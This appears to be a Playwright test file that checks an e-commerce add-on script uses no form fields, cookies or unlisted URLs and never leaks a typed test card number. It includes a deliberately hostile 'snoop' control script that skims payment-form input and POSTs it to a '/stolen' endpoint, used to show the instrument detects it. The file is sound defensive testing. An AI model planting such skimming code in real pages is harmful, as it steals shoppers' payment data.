/**
 * @file What dist/inventory.json says about the scripts is true in a real page. An instrument records what each script
 * uses. A script that does everything ours never do shows that the instrument detects it.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test as base } from './fixtures.js';
import { DataLayer, kDataLayerTag } from './lib/dataLayer.js';
import { Instrument } from './lib/instrument.js';
import { kDist } from './lib/paths.js';
import type { Shopper } from './lib/shopper.js';

interface Entry {
  file: string;
  globals: { name: string }[];
  reads: { from: string }[];
  stores: { in: string; key: string }[];
  listens: { on: string; to: string }[];
}

const { files } = JSON.parse(readFileSync(join(kDist, 'inventory.json'), 'utf8')) as { files: Entry[] };
const stated = (file: string) => files.find((entry) => entry.file === file) as Entry;

const kOurs = 'dist/aftermint.js';
const kLayer = 'dist/aftermint-datalayer.js';
const kCard = '4242 4242 4242 4242';

const test = base.extend<{ instrument: Instrument }>({
  instrument: async ({ context }, use) => use(await Instrument.in(context)),
});

/** Stores values of the page's own, which our scripts must not use. */
const keepForeign = (page: Page) =>
  page.addInitScript(() => {
    localStorage.setItem('shop.basket', 'three things');
    sessionStorage.setItem('shop.step', 'payment');
  });

/** Does everything that a shopper can do: look, tick, fill in, pay, accept, undo. Calls `onPage` before leaving each page. */
async function journey(shopper: Shopper, onPage: () => Promise<void>): Promise<void> {
  const { page } = shopper;
  await page.goto('/products/oak-board');
  await expect(page.locator('aftermint-bundle [part~=accept]')).toBeVisible();
  await onPage();
  await shopper.choose('knife-set');
  await shopper.fillIn();
  await shopper.tick.check();
  await shopper.tick.uncheck();
  await shopper.tick.check();
  await onPage();
  await shopper.pay();
  await shopper.press(shopper.accept);
  await shopper.press(shopper.undo);
  await expect(shopper.status).toContainText('Undone.');
  await onPage();
}

test('our scripts use no field, cookie or foreign key, make no code from text, patch nothing and send no messages', async ({
  instrument,
  page,
  shopper,
}) => {
  await keepForeign(page);
  await journey(shopper, async () => {
    expect(await instrument.changedBuiltIns(page)).toEqual([]);
    const own = await page.evaluate(() => [localStorage.getItem('shop.basket'), sessionStorage.getItem('shop.step')]);
    expect(own).toEqual(['three things', 'payment']);
  });
  for (const kind of ['field', 'cookie', 'code', 'message'] as const)
    expect(instrument.by(kOurs, kind), kind).toEqual([]);
  expect(instrument.by('assets/shop.js', 'listen'), 'the instrument distinguishes the page’s own script').toContain(
    'form aftermint-change',
  );
});

test('our script uses exactly the listeners, keys and browser properties in the inventory', async ({
  instrument,
  page,
  shopper,
}) => {
  await keepForeign(page);
  // Waiting for a late style sheet needs its own listeners.
  let release = () => {};
  const sheet = new Promise<void>((done) => {
    release = done;
  });
  await page.route('**/assets/shop.css', (route) => sheet.then(() => route.continue()));
  // If a page sets no visitor id, one is made.
  await page.route('**/products/oak-board', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace(/ visitor="[^"]*"/, '') });
  });
  await page.goto('/products/oak-board', { waitUntil: 'commit' });
  await expect.poll(() => instrument.by(kOurs, 'listen')).toContain('document load');
  release();
  await journey(shopper, async () => undefined);
  const { listens, stores, reads } = stated('aftermint.js');
  expect(instrument.by(kOurs, 'listen')).toEqual(listens.map(({ on, to }) => `${on} ${to}`).sort());
  expect(instrument.by(kOurs, 'store')).toEqual(stores.map((store) => `${store.in} ${store.key}`).sort());
  const read = new Set(reads.map(({ from }) => from));
  // The beacon sends one second after the first event.
  await expect.poll(() => instrument.by(kOurs, 'read')).toContain('navigator.onLine');
  expect(instrument.by(kOurs, 'read').filter((what) => !read.has(what))).toEqual([]);
});

test('our script contacts only the URLs in its tag, the book and its own folder', async ({
  instrument,
  shopper,
  shop,
}) => {
  await journey(shopper, async () => undefined);
  const asked = () => {
    const all = instrument.by(kOurs, 'ask').map((what) => what.replace(shop.url, ''));
    return all.filter((what) => !/^img \/assets\/[\w-]+\.svg$/.test(what));
  };
  await expect
    .poll(asked)
    .toEqual([
      'fetch /book.json',
      'fetch /dist/aftermint-page.wasm',
      'fetch /events',
      'fetch /offers/accept',
      'fetch /offers/accept/undo',
    ]);
});

test.describe('with the data layer script', () => {
  test.use({ head: kDataLayerTag });

  test('the script listens to our elements only, contacts nobody and stores nothing', async ({
    context,
    instrument,
    shopper,
  }) => {
    const layer = await DataLayer.of(context);
    await journey(shopper, async () => undefined);
    expect(layer.names).toContain('purchase');
    const { listens, reads } = stated('aftermint-datalayer.js');
    for (const kind of ['field', 'cookie', 'store', 'ask', 'code', 'message'] as const) {
      expect(instrument.by(kLayer, kind), kind).toEqual([]);
    }
    expect(instrument.by(kLayer, 'listen')).toEqual(listens.map(({ on, to }) => `${on} ${to}`).sort());
    const read = new Set(reads.map(({ from }) => from));
    expect(instrument.by(kLayer, 'read').filter((what) => !read.has(what))).toEqual([]);
  });

  test('the page gets the globals in the inventory, and the data layer', async ({ page, shopper, watch }) => {
    watch.expects(/aftermint[\w-]*\.js/, /BLOCKED_BY_CLIENT/);
    const names = () => page.evaluate(() => Reflect.ownKeys(window).map(String));
    await shopper.choose();
    await shopper.tick.check();
    const withUs = await names();
    await page.route('**/dist/*.js', (route) => route.abort('blockedbyclient'));
    await page.goto('/checkout');
    await expect(shopper.payButton).toBeVisible();
    const without = new Set(await names());
    const { globals } = stated('aftermint.js');
    expect(withUs.filter((name) => !without.has(name)).sort()).toEqual(
      [...globals.map(({ name }) => name), 'dataLayer'].sort(),
    );
  });

  test('a card number typed into the page is in no request, store, cookie, data layer or memory', async ({
    context,
    instrument,
    page,
    shopper,
  }) => {
    const layer = await DataLayer.of(context);
    const sent: string[] = [];
    context.on('request', (request) => sent.push(`${request.method()} ${request.url()}`, request.postData() ?? ''));
    await shopper.choose();
    // As on payment pages, the field has no name, so that the page's own form does not submit it either.
    await page
      .locator('form.pay fieldset')
      .first()
      .evaluate((place) => {
        const field = document.createElement('input');
        field.autocomplete = 'cc-number';
        field.id = 'number';
        place.append(field);
      });
    await page.locator('#number').pressSequentially(kCard);
    await shopper.fillIn();
    await shopper.tick.check();
    const places = async () => ({
      wasm: (await instrument.heldByWasm(page, kCard)) + (await instrument.heldByWasm(page, kCard.replaceAll(' ', ''))),
      kept: await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])),
    });
    expect(
      await instrument.heldByWasm(page, 'guards-with-set'),
      'the instrument can read the memory of the core',
    ).toBeGreaterThan(0);
    const atCheckout = await places();
    await shopper.pay();
    await shopper.press(shopper.accept);
    await expect(shopper.undo).toBeEnabled();
    const afterwards = await places();
    await page.goto('/'); // leaving the page sends the waiting events
    const all = [...sent, atCheckout.kept, afterwards.kept, JSON.stringify(layer.entries)].join('\n');
    expect(all).toContain('aftermint.checkout');
    expect(all).not.toMatch(/4242[\s+%\d]*4242/);
    expect([atCheckout.wasm, afterwards.wasm]).toEqual([0, 0]);
  });
});

/** Does each thing once that our scripts never do. */
const kSnoop = `
const attempt = (work) => { try { work(); } catch { /* the policy blocks some of it, after it has been recorded */ } };
window.snooped = true;
const memory = new WebAssembly.Memory({ initial: 1 });
addEventListener('DOMContentLoaded', () => {
  const field = document.querySelector('#name');
  if (!field) return;
  document.querySelector('form.pay').addEventListener('input', () => {
    new Uint8Array(memory.buffer).set(new TextEncoder().encode(field.value), 1000);
    localStorage.setItem('snoop', field.value);
    fetch('/stolen', { method: 'POST', body: field.value });
  });
  document.addEventListener('keydown', () => undefined);
  document.onpaste = () => undefined;
  attempt(() => new FormData(document.querySelector('form.pay')));
  attempt(() => document.cookie);
  attempt(() => sessionStorage.getItem('shop.step'));
  attempt(() => { document.querySelector('h1').innerHTML = '<b>Hello</b>'; });
  attempt(() => eval('1'));
  attempt(() => new Function('return 1'));
  attempt(() => parent.postMessage('x', '*'));
  attempt(() => document.createElement('script'));
  attempt(() => { new Image().src = '/assets/mark.svg?x'; });
  attempt(() => new XMLHttpRequest().open('GET', '/stolen'));
  attempt(() => navigator.userAgent);
  Element.prototype.closest = () => null;
});`;

test.describe('a script that does what ours never do', () => {
  test.use({ head: '<script src="/dist/snoop.js"></script>' });

  test('is detected by the instrument', async ({ instrument, page, shopper, watch }) => {
    watch.expects(/Content Security Policy|Trusted|TrustedHTML|unsafe-eval/);
    await page.route('**/dist/snoop.js', (route) => route.fulfill({ contentType: 'text/javascript', body: kSnoop }));
    const sent: string[] = [];
    await page.route('**/stolen', (route) => {
      sent.push(route.request().postData() ?? '');
      return route.fulfill({ status: 204 });
    });
    await shopper.choose();
    await page.getByLabel('Full name').pressSequentially(kCard);
    const caught = (kind: Parameters<Instrument['by']>[1]) => instrument.by('dist/snoop.js', kind);
    await expect.poll(() => caught('field')).toEqual(['form ', 'input name']);
    expect(caught('cookie')).toEqual(['document.cookie']);
    expect(caught('store')).toEqual(['localStorage snoop', 'sessionStorage shop.step']);
    expect(caught('listen')).toEqual(['document keydown', 'document paste', 'form input', 'window DOMContentLoaded']);
    expect(caught('code')).toEqual(['<script>', 'Function', 'eval', 'innerHTML']);
    expect(caught('message')).toEqual(['postMessage']);
    expect(caught('read')).toEqual(['navigator.userAgent']);
    expect(caught('ask').map((what) => what.replace(/http:\/\/[^/]+/, ''))).toEqual([
      'XMLHttpRequest /stolen',
      'fetch /stolen',
      'img /assets/mark.svg?x',
    ]);
    expect(await instrument.changedBuiltIns(page)).toEqual(['Element.prototype.closest']);
    expect(await instrument.heldByWasm(page, kCard)).toBe(1);
    expect(sent.join('\n')).toContain(kCard);
    expect(await page.evaluate(() => localStorage.getItem('snoop'))).toBe(kCard);
    expect(await page.evaluate(() => 'snooped' in window)).toBe(true);
  });
});
